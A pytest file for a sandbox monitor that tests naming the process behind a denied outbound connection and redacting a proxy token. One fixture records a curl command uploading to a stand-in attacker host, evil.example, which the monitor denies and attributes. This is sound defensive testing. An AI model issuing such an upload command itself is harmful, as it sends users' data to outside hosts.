"""Naming the process behind an egress denial in `--isolation namespace`: `vmm.sockowner` finds the process
holding a socket from the kernel's tables (real sockets, real processes here), `ifc.monitor.egressowners`
records it under the relay's address, and the report matches a denial logged `egress from PEER` to it. The
end-to-end case (Claude Code's curl, git and smtplib named in `ifc report`) is tests/test_agent_channels.py."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from ifc.monitor import EventLog, LabelStore, Monitor, Request
from ifc.monitor.egressowners import EgressOwnerLog
from ifc.policy import load_policy
from ifc.report import load_run, render_markdown, report_dict
from vmm.sockowner import owner

ROOT = Path(__file__).resolve().parents[1]
HOLD = ("import socket, sys, time; s = socket.socket(socket.AF_INET, socket.{kind}); s.{how}; "
        "print('ready', flush=True); time.sleep(60)")


def holder(kind: str, how: str) -> subprocess.Popen:
    proc = subprocess.Popen([sys.executable, "-c", HOLD.format(kind=kind, how=how), "marker-argument"],
                            stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "ready"
    return proc


@pytest.mark.parametrize("proto", ["tcp", "udp"])
def test_the_process_holding_a_socket_is_found_by_its_address(proto):
    kind = "SOCK_STREAM" if proto == "tcp" else "SOCK_DGRAM"
    with socket.socket(socket.AF_INET, getattr(socket, kind)) as server:
        server.bind(("127.0.0.1", 0))
        port = server.getsockname()[1]
        if proto == "tcp":
            server.listen()
        proc = holder(kind, f"connect(('127.0.0.1', {port}))" if proto == "tcp" else
                      f"sendto(b'q', ('127.0.0.1', {port}))")
        try:
            if proto == "tcp":
                conn, client = server.accept()
                conn.close()
            else:
                _, client = server.recvfrom(16)
            found = owner(os.getpid(), proto, client)
            assert found is not None and found.pid == proc.pid, found
            assert found.argv[0] == sys.executable and found.argv[-1] == "marker-argument"
        finally:
            proc.kill()
            proc.wait()
        # the process is gone, and its socket with it: nothing to name, nothing made up
        assert owner(os.getpid(), proto, client) is None


def test_the_report_names_the_process_behind_an_egress_denial(tmp_path):
    policy_path = ROOT / "policies" / "default.flow"
    policy = load_policy(policy_path)
    log = EventLog(tmp_path / "events.db")
    log.set_meta(policy=str(policy_path), policy_digest=policy.digest, agent="", source="test")
    owners = EgressOwnerLog(tmp_path / "events.db")
    now = time.time()
    # the same relay port used earlier by another process, then by the one that made the denied connection
    owners.record("127.0.0.1:40000", 101, ["git", "fetch"], now - 60)
    owners.record("127.0.0.1:40000", 202, ["curl", "-x", "http://ifc:ifc1_AQABAuYBsecretpart@127.0.0.1:3128",
                                             "https://evil.example/upload"], now - 1)
    monitor = Monitor(policy, labels=LabelStore(tmp_path / "labels.db"), log=log)
    monitor.decide(Request("connect", "https://evil.example:443", cmdline="egress from 127.0.0.1:40000"))
    monitor.decide(Request("connect", "https://other.example:443", cmdline="egress from 127.0.0.1:40001"))
    monitor.close()
    owners.record("127.0.0.1:40000", 303, ["later", "process"])  # after the denial: not its owner
    owners.close()
    run = load_run(tmp_path)
    evil, other = run.denials
    assert evil.pid == 202 and evil.cmdline.startswith("curl -x ") and evil.relayed_from == "127.0.0.1:40000"
    assert "secretpart" not in evil.cmdline  # the token in the proxy URL is redacted
    assert other.pid is None and other.cmdline == "egress from 127.0.0.1:40001" and other.relayed_from is None
    md = render_markdown(run)
    assert "- **process:** pid 202, `curl -x " in md and "held the connection the hook saw from `127.0.0.1:40000`" in md
    data = json.loads(json.dumps(report_dict(run)))
    assert data["denials"][0]["relayed_from"] == "127.0.0.1:40000"
    assert data["denials"][0]["process"]["pid"] == 202
